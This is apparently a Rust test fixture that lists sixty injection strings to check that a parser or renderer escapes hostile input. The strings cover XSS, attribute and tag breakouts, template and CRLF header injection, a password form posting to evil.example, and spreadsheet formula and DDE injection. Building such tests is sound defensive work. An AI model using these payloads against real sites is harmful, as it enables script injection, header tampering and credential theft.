//! Sixty texts that want to be something else. Where one would make an element or an attribute, its name has `vreemd` in
//! it: a page in which a parser finds that as a name, and not as text, let it through.

/// All of them, in a fixed order.
pub fn all() -> Vec<String> {
    let mut all: Vec<String> = FIXED.iter().map(|text| (*text).to_owned()).collect();
    all.push(format!("lang {}", "x".repeat(20_000)));
    all.push("<b vreemd>".repeat(40));
    all.push(format!("{}vreemd", "> ".repeat(300)));
    all.push("e\u{301}\u{302}\u{303}".repeat(50));
    all
}

const FIXED: &[&str] = &[
    // Elements.
    "<script vreemd>vreemd()</script>",
    "<img vreemd src=x onerror=vreemd()>",
    "<svg vreemd onload=vreemd()><vreemd/></svg>",
    "<svg><style><img vreemd src=x onerror=vreemd()></style></svg>",
    "<math vreemd><mtext></table><img vreemd src onerror=vreemd()>",
    "<iframe vreemd srcdoc=\"<script>vreemd()</script>\"></iframe>",
    "<vreemd-element>",
    "<details vreemd open ontoggle=vreemd()>",
    "<base vreemd href=https://evil.example/>",
    "<meta vreemd http-equiv=refresh content=0;url=https://evil.example>",
    "<form vreemd action=https://evil.example><input vreemd name=wachtwoord>",
    "<scr<script>ipt vreemd>vreemd()</scr</script>ipt>",
    "<<vreemd>>",
    "<\u{0}script vreemd>",
    "<a vreemd href=\"javascript:vreemd()\">klik</a>",
    // Out of where the text stands.
    "</textarea><script vreemd>vreemd()</script>",
    "</title><script vreemd>vreemd()</script>",
    "</script><script vreemd>vreemd()</script>",
    "</style><img vreemd src=x onerror=vreemd()>",
    "</option></select><img vreemd src=x>",
    "</leptos-island><img vreemd src=x>",
    "</main></body></html><vreemd>",
    "--><vreemd><!--",
    "<!--><vreemd>-->",
    "<!></textarea><vreemd>",
    "]]><vreemd><![CDATA[",
    "\" vreemd onfocus=\"vreemd()\" autofocus x=\"",
    "' vreemd onfocus='vreemd()' autofocus x='",
    "x vreemd onmouseover=vreemd() ",
    "\"><vreemd x=\"",
    "` vreemd `",
    // What a template, a catalogue or a hydrating script would take for its own.
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{ $name } { -brand } {\"vreemd\"}",
    "<leptos-island vreemd data-component=\"X_1\" data-props='{}'>",
    "<!--hot-reload|vreemd--><!--bo-item-->",
    "%s %d %n {0} {} {:?}",
    "\\u003cscript vreemd\\u003e \\x3cvreemd\\x3e",
    "&lt;vreemd&gt; &#60;vreemd&#62; &amp;lt;vreemd&amp;gt;",
    // Headers, and lines of a calendar.
    "Naam\r\nBcc: vreemd@evil.example",
    "Naam\nX-Vreemd: 1\n\n<vreemd>",
    "Naam\rSet-Cookie: vreemd=1",
    "Naam\u{0}vreemd",
    "Zaal\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-VREEMD:1",
    "Zaal;X-VREEMD=1:,\\n\\;ATTENDEE:mailto:vreemd@evil.example",
    "=?utf-8?q?=0D=0AX-Vreemd:_1?= \"vreemd\" <vreemd@evil.example>",
    "\u{85}X-Vreemd: 1\u{2028}X-Vreemd: 2",
    // Sheets, JSON, links of Markdown.
    "=HYPERLINK(\"https://evil.example\";\"vreemd\")",
    "+cmd|' /C vreemd'!A0",
    "-2+3+vreemd\"; @SUM(1+1)",
    "@SUM(1+9)*vreemd;\"x\"",
    "\",\"vreemd\":true,\"x\":\"",
    "[klik](javascript:vreemd()) ![x](data:text/html,<vreemd>) <javascript:vreemd()>",
    "[a]: javascript:vreemd()\n[klik][a] [b](<https://x.example\" vreemd onclick=\"vreemd()>)",
    // Letters.
    "\u{202E}dmeerv\u{202C} \u{2066}om\u{2069} \u{200F}",
    "\u{FEFF}\u{200B}nul\u{200D}breed\u{AD}\u{2060}",
    "👩🏽‍🚒🇳🇱 Ⅷ ﬁ Å A\u{30A} İi ẞß \u{1F9D1}\u{200D}\u{2696}\u{FE0F}",
];

#[test]
fn there_are_sixty_and_no_two_are_the_same() {
    let all: std::collections::BTreeSet<String> = all().into_iter().collect();
    assert_eq!(all.len(), 60);
}
